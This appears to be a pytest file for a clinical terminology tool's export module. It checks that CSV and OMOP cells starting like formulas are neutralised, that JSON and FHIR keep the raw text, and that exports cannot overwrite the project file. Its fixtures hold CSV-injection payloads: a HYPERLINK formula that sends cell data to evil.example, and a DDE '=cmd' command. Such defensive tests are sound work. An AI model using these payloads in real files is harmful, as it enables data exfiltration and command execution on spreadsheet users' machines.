"""Exports are data, never formulas, never written over the project, and read page by page.

CSV and OMOP text cells that a spreadsheet would run (= + - @, tab, carriage return at the start)
get a leading single quote; scores stay numbers; JSON and FHIR keep the raw text.
"""

from __future__ import annotations

import csv
import json

import pytest

from termlinker.errors import OutputIsInputError
from termlinker.project import Project
from termlinker.project.exports import omop_source_code

from .conftest import FIXED, result

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'
TERMS = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "plain pain"]


@pytest.fixture
def hostile(tmp_path):
    """A project whose terms, comments, reviewer and candidate names start like formulas."""
    with Project.create(tmp_path / "hostile.tlproj", "tiny", clock=lambda: FIXED) as p:
        p.add_terms([(t, 1) for t in TERMS])
        p.store_results([result(FORMULA, ("=X:1", "=cmd|' /C calc'!A0", 0.9)),
                         result("+1+1", ("T:001", "@Headache", 0.8)),
                         result("-2+3", ("T:002", "-Insomnia", -0.25)),
                         result("@SUM(A1:A9)", ("T:003", "\tTabbed", 0.5)),
                         result("plain pain", ("T:004", "Nausea", 0.4))])
        for term in TERMS:
            p.decide(term, "approved", comment="\r=1+2" if term == "plain pain" else "+ok", reviewer="@ann")
        yield p


def _csv(project, tmp_path, fmt):
    out = tmp_path / f"out.{fmt}"
    project.export(out, fmt, approved_only=False)
    with open(out, encoding="utf-8", newline="") as fh:  # newline="": a quoted \r is part of a cell
        return list(csv.DictReader(fh))


def test_csv_export_neutralises_every_text_cell_that_starts_a_formula(hostile, tmp_path):
    rows = _csv(hostile, tmp_path, "csv")
    assert [r["term"] for r in rows] == ["'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1:A9)", "plain pain"]
    first = rows[0]
    assert first["concept_id"] == first["best_id"] == "'=X:1"
    assert first["concept_name"] == first["best_name"] == "'=cmd|' /C calc'!A0"
    assert rows[1]["best_name"] == "'@Headache" and rows[3]["best_name"] == "'\tTabbed"
    assert rows[4]["comment"] == "'\r=1+2" and rows[0]["comment"] == "'+ok" and rows[0]["reviewer"] == "'@ann"
    # Numbers we write ourselves stay numbers, a negative score included.
    assert rows[2]["best_score"] == "-0.2500" and rows[0]["count"] == "1"


def test_omop_source_codes_are_neutralised_also_when_cut():
    """The OMOP export itself needs an Athena vocabulary: see test_omop_export.py."""
    assert [omop_source_code(t) for t in TERMS[:4]] == ["'" + FORMULA, "'+1+1", "'-2+3", "'@SUM(A1:A9)"]
    cut = omop_source_code("=" + "1+" * 60)
    assert cut.startswith("'=1+") and len(cut) == 50


def test_json_and_fhir_keep_the_raw_text(hostile, tmp_path):
    out = tmp_path / "out.json"
    hostile.export(out, "json", approved_only=False)
    mappings = json.loads(out.read_text(encoding="utf-8"))["mappings"]
    assert mappings[0]["term"] == FORMULA and mappings[0]["candidates"][0]["name"] == "=cmd|' /C calc'!A0"
    assert mappings[4]["comment"] == "\r=1+2"
    hostile.export(out, "fhir", approved_only=False)
    elements = json.loads(out.read_text(encoding="utf-8"))["group"][0]["element"]
    assert elements[0]["code"] == FORMULA and elements[0]["target"][0]["code"] == "=X:1"


def test_the_api_refuses_to_export_onto_the_project_file(hostile):
    before = hostile.path.read_bytes()
    with pytest.raises(OutputIsInputError, match="Choose another .* path; the input was not touched"):
        hostile.export(hostile.path, "csv")
    assert hostile.path.read_bytes() == before
    assert hostile.row("plain pain").comment == "\r=1+2"


def test_rows_are_read_page_by_page_in_first_seen_order(hostile):
    everything = hostile.rows()
    for page in (1, 2, 1000):
        assert list(hostile.iter_rows(page=page)) == everything
    hostile.decide("-2+3", "flagged")
    assert [r.term for r in hostile.iter_rows(status="flagged", page=1)] == ["-2+3"]
    assert [r.term for r in hostile.iter_rows(status="approved", page=2)] == [t for t in TERMS if t != "-2+3"]
